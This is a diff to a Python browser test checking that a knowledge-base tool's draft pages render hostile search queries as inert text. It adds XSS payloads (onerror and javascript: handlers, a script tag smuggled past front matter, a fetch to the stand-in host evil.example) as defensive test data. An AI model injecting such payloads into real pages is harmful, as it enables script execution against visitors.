@@ -210,7 +210,16 @@ def test_gap_drafts_of_hostile_queries_run_nothing_in_the_preview(
     from kb_builder.core.gaps import write_gap_stubs
     from kb_feedback.report.model import Funnel, Gap, Report
 
-    queries = ["<svg/onload=alert(1)>", "<img src=x onerror=alert(2)> mail", "{{ extra.x }}"]
+    run = "window.__kbPwned=1;alert(1);fetch('http://evil.example/ran')"
+    queries = [
+        "<svg/onload=alert(1)>",
+        f"<img src=x onerror={run}> mail",
+        "{{ extra.x }}",
+        f"[help](javascript:{run}) mail",
+        f'"]\ntitle: x\n---\n<script>{run}</script>',
+        f"mail {{: onclick={run!r} }}",
+        f"![x](http://evil.example/p.png) `code` **bold** <!-- c --> &lt;b&gt; {run}",
+    ]
     site_factory.write(
         {**minimal_sections(), "email/quota.md": article("Mailbox quota", "Mailbox full.")},
         plugin={"search_index": True},
@@ -225,8 +234,8 @@ def test_gap_drafts_of_hostile_queries_run_nothing_in_the_preview(
         least_helpful=[],
         gaps=[Gap(q, 3, {"search_no_results": 3}, (q,)) for q in queries],
     )
-    written = write_gap_stubs(report, tmp_path / "docs", section="email")
-    assert len(written) == 3
+    written = write_gap_stubs(report, tmp_path / "docs", section="email", limit=len(queries))
+    assert len(written) == len(queries)
     dialogs: list[str] = []
 
     def on_dialog(dialog: Any) -> None:
@@ -238,7 +247,11 @@ def test_gap_drafts_of_hostile_queries_run_nothing_in_the_preview(
     for path, query in zip(written, queries, strict=True):
         page.goto(base + f"email/{path.stem}/")
         page.locator(".kb-draft-banner").wait_for()
-        assert f"Customers asked: “{query}”" in page.locator("article").inner_text()
+        shown = " ".join(query.split())
+        assert f"Customers asked: “{shown}”" in " ".join(
+            page.locator("article").inner_text().split()
+        )
+        assert page.evaluate("window.__kbPwned === undefined"), query
     assert page.locator(".kb-problems").count() == 0
     assert dialogs == []
     assert all(u.startswith(base) for u in page.requests), page.requests
